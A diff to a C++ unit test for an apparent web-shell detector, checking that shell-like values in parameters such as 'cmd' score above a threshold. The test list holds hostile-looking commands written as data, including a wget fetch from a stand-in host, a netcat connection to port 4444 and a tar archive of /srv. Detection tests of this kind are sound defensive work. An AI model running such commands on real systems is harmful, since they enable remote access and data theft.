@@ -14,8 +14,8 @@ std::uint32_t points(std::string_view name, std::string_view text, Part part = P
 TEST(NamedCommand, WebShellsAreAsked) {
   for (const std::string_view text :
        {"id", "whoami", "ps aux", "uname -a", "ls -la", "ls /srv", "cat notes.txt", "cat /etc/group", "dir", "net user",
-        "wget http://host.example/a", "nc 192.0.2.7 4444", "/usr/bin/id", "whoami.exe",
-        "aWQ=", "tar -czf /tmp/a.tgz /srv"}) {
+        "wget http://host.example/a", "nc 192.0.2.7 4444", "/usr/bin/id", "whoami.exe", "aWQ=", "/bin/ab",
+        "powershell C:\\\\x\\\\a.exe", "python3 /srv/a.py", "tar -czf /tmp/a.tgz /srv"}) {
     EXPECT_GE(points("cmd", text), kThreshold) << text;
     EXPECT_GE(points("sys_exec", text), kThreshold) << text;
     EXPECT_GE(points("shellCommand", text), kThreshold) << text;
